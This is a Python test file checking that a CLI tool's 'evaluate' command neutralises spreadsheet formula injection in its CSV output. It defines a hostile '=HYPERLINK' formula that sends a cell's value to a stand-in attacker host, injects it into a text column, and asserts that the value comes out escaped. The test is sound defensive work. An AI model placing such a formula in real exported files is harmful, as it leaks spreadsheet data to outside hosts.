"""``csmap evaluate`` writes its folds CSV through the formula-safe writer (issue #7)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pandas as pd
import pytest

import analysis.evaluation.accuracy as evaluation
from app.cli import main
from tests.app.commands.analyse.test_evaluate import _concerns_csv

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_evaluate_csv_neutralises_a_hostile_text_value(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    real = evaluation.backtest

    def hostile_backtest(*args: Any, **kwargs: Any) -> pd.DataFrame:
        folds = real(*args, **kwargs)
        folds["note"] = HOSTILE  # a text column a spreadsheet would evaluate
        return folds

    monkeypatch.setattr(evaluation, "backtest", hostile_backtest)
    csv = _concerns_csv(tmp_path / "concerns.csv")
    out = tmp_path / "folds.csv"
    args = ["evaluate", str(csv), "--methods", "grid_counts", "--coverage", "0.01"]
    status = main([*args, "--cell-size", "500", "--out", str(out)])
    assert status == 0, capsys.readouterr().err
    text = out.read_text(encoding="utf-8")
    assert "'" + HOSTILE.replace('"', '""') in text
    folds = pd.read_csv(out)
    assert (folds["note"] == "'" + HOSTILE).all()
    assert pd.api.types.is_numeric_dtype(folds["pai"])  # numbers stay numbers
